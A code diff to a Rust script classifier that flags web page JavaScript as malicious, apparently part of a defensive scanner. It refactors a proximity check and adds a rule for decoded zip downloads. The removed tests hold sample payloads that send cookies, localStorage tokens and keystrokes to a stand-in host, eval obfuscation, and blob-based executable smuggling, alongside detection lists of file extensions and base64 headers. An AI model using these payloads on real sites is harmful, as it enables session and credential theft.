@@ -1,15 +1,15 @@
 //! What a script of a page does, told by its words.
 
 mod dotted;
+mod near;
 
 use super::decode;
 use crate::Severity;
+use near::{near, sends_near};
 
 /// What is said of a script: how bad, and why.
 pub(crate) type Judgement = (Severity, &'static str);
 
-/// How near two words must be to belong together.
-const NEAR: usize = 240;
 /// More of one script is not looked at word by word.
 const SCRIPT_BYTES_MAX: usize = 4 << 20;
 /// Bundled libraries are larger; what they contain by the way says nothing.
@@ -92,7 +92,7 @@ pub(crate) fn judge(script: &str) -> Judgement {
             return (Severity::Malicious, why);
         }
     }
-    if small && near(&bare, &KEEPS, &SENDS) {
+    if small && sends_near(&bare, &KEEPS, &SENDS) {
         return (
             Severity::Malicious,
             "it sends what the browser keeps for the site",
@@ -152,19 +152,6 @@ pub(crate) fn judge(script: &str) -> Judgement {
     (Severity::Active, "it holds a script")
 }
 
-fn near(bare: &str, first: &[&str], second: &[&str]) -> bool {
-    first.iter().any(|word| {
-        memchr::memmem::find_iter(bare.as_bytes(), word.as_bytes())
-            .take(200)
-            .any(|at| {
-                let around = &bare.as_bytes()[at.saturating_sub(NEAR)..bare.len().min(at + NEAR)];
-                second
-                    .iter()
-                    .any(|word| memchr::memmem::find(around, word.as_bytes()).is_some())
-            })
-    })
-}
-
 fn smuggles(bare: &str) -> bool {
     let has = |word: &str| memchr::memmem::find(bare.as_bytes(), word.as_bytes()).is_some();
     let makes = has("createobjecturl")
@@ -176,7 +163,7 @@ fn smuggles(bare: &str) -> bool {
     }
     let programs = [
         ".exe", ".scr", ".msi", ".hta", ".vbs", ".iso", ".img", ".bat", ".cmd", ".lnk", ".ps1",
-        ".dll", ".jar", ".js'", ".js\"", ".zip", ".vhd", ".docm", ".xlsm", ".apk", ".dmg",
+        ".dll", ".jar", ".js'", ".js\"", ".vhd", ".docm", ".xlsm", ".apk", ".dmg",
     ];
     let heads = ["tvqq", "tvoa", "tvpq", "uesdb", "f0vmr", "0m8r4k", "n3q8r"];
     let named = programs
@@ -185,7 +172,9 @@ fn smuggles(bare: &str) -> bool {
     let held = heads
         .iter()
         .any(|head| has(&format!("'{head}")) || has(&format!("\"{head}")));
-    (named && (has("atob(") || has("blob(") || has("uint8array"))) || held
+    // A zip of results is made of what the page shows, not decoded.
+    let packed = has("atob(") && near(bare, &["download"], &[".zip"]);
+    (named && (has("atob(") || has("blob(") || has("uint8array"))) || packed || held
 }
 
 fn obfuscated(bare: &str) -> Option<Judgement> {
@@ -337,55 +326,4 @@ fn w3(address: &str) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn scripts_are_told_apart() {
-        for (script, wanted) in [
-            (
-                "const d=[3,1];document.getElementById('c').getContext('2d').fillRect(0,0,1,1)",
-                Severity::Active,
-            ),
-            (
-                "Plotly.newPlot('a', [{x:[1]}], {}); window.onresize = () => Plotly.Plots.resize('a')",
-                Severity::Active,
-            ),
-            (
-                "fetch('https://a.invalid/?' + document.cookie)",
-                Severity::Malicious,
-            ),
-            (
-                "new Image().src = '//a.invalid/c?' + localStorage.token",
-                Severity::Malicious,
-            ),
-            ("eval(atob('YQ=='))", Severity::Malicious),
-            ("window['ev'+'al'](x)", Severity::Malicious),
-            ("self[\"al\" + \"ert\"](1)", Severity::Malicious),
-            (
-                "navigator.serviceWorker.register('/sw.js')",
-                Severity::Malicious,
-            ),
-            (
-                "var b = atob('TVqQAAM'); a.href = URL.createObjectURL(new Blob([b])); a.download = 'x.txt'",
-                Severity::Malicious,
-            ),
-            (
-                "a.download='r.iso'; a.href=URL.createObjectURL(new Blob([Uint8Array.from(x)]))",
-                Severity::Malicious,
-            ),
-            ("location = 'https://a.invalid/login'", Severity::Suspicious),
-            ("alert(1)", Severity::Suspicious),
-            (
-                "document.addEventListener('keydown', e => fetch('https://a.invalid/' + e.key))",
-                Severity::Malicious,
-            ),
-            (
-                "import('https://cdn.jsdelivr.net/npm/vega')",
-                Severity::Active,
-            ),
-        ] {
-            assert_eq!(judge(script).0, wanted, "{script}");
-        }
-    }
-}
+mod tests;
